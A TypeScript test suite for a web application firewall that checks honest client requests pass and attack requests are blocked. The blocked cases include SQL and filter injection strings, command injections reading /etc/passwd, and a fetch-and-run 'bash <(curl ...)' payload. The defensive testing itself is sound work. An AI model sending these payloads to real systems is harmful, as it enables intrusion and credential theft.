import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { createFirewall } from '../firewall.ts';
import { detectors } from './all.ts';
import clients from './testdata/honest-clients.json' with { type: 'json' };
import programs from './testdata/honest-programs.json' with { type: 'json' };

interface Request {
  readonly name: string;
  readonly method: string;
  readonly target: string;
  readonly headers: Readonly<Record<string, string | undefined>>;
  readonly body?: string | undefined;
}

const policy = { mode: 'block', paranoia: 1, threshold: 5, exclusions: [], inspectBytesMax: null } as const;
const context = { endpoint: '/*', nowMs: 0 };

describe('requests as real programs send them', () => {
  const firewall = createFirewall({ detectors });

  /** The rules that stop it. */
  function stoppedBy({ method, target, headers, body }: Request): readonly string[] {
    const [path = '', query = ''] = target.split('?', 2);
    const head = firewall.inspectHead(
      { method, path, query, headers: { host: 'www.example.com', ...headers } },
      policy,
      context,
    );
    if (head.verdict === 'block') return [head.problem?.detail ?? '', ...head.matches.map(({ rule }) => rule)];
    if (body === undefined) return [];
    const inspection = firewall.openBody(
      { contentType: headers['content-type'], contentEncoding: headers['content-encoding'], method },
      policy,
      context,
    );
    const whole = inspection.feed(Buffer.from(body)) ?? inspection.end();
    return whole.verdict === 'block' ? [whole.problem?.detail ?? '', ...whole.matches.map(({ rule }) => rule)] : [];
  }

  const get = (target: string): Request => ({ name: target, method: 'GET', target, headers: {} });
  const form = (body: string): Request => ({
    name: body,
    method: 'POST',
    target: '/',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body,
  });

  // If this fails, a camera, a calendar, a directory or a search box stops working behind the gate.
  for (const request of [...programs, ...clients])
    test(`passes ${request.name}`, () => assert.deepEqual(stoppedBy(request), []));

  for (const request of [
    get('/ISAPI/Security/users'),
    get('/onvif-http/snapshot?auth=YWRtaW46MTEK'),
    get(`/q?path=${encodeURIComponent('//users[name="x"]/password')}`),
    get('/ISAPI/System/configurationData'),
    get('/redfish/v1/AccountService/Accounts/1'),
    get(`/q?a=${encodeURIComponent('SELECT password FROM users -- since 1 hour ago')}`),
    get(`/q?a=${encodeURIComponent("SELECT 'since 1 hour ago', password FROM users")}`),
    get(`/q?filter=${encodeURIComponent('x" or userName eq "admin')}`),
    get(`/q?filter=${encodeURIComponent("x' or 1 eq 1 or 'a' eq 'a")}`),
    get(`/q?a=${encodeURIComponent('cat -n /etc/passwd')}`),
    get(`/q?a=${encodeURIComponent('x; ps aux')}`),
    get(`/q?a=${encodeURIComponent('x&nbsp; cat /etc/passwd</p>')}`),
    form(`payload=${encodeURIComponent(JSON.stringify({ script: 'bash <(curl -s https://a.example/x)' }))}`),
    form(`id=${encodeURIComponent('1 or "a"="a" -- ')}`),
    get('/dl/cat%20flag.txt'),
    get('/dl/type%20notes.txt'),
    get('/dl/file%20-i%20x.pdf'),
    get(`/q?q=${encodeURIComponent('cat photo.jpg')}`),
    get(`/q?file=${encodeURIComponent('cat /etc/passwd .jpg')}`),
  ])
    test(`stops ${request.name}`, () => assert.notDeepEqual(stoppedBy(request), []));
});
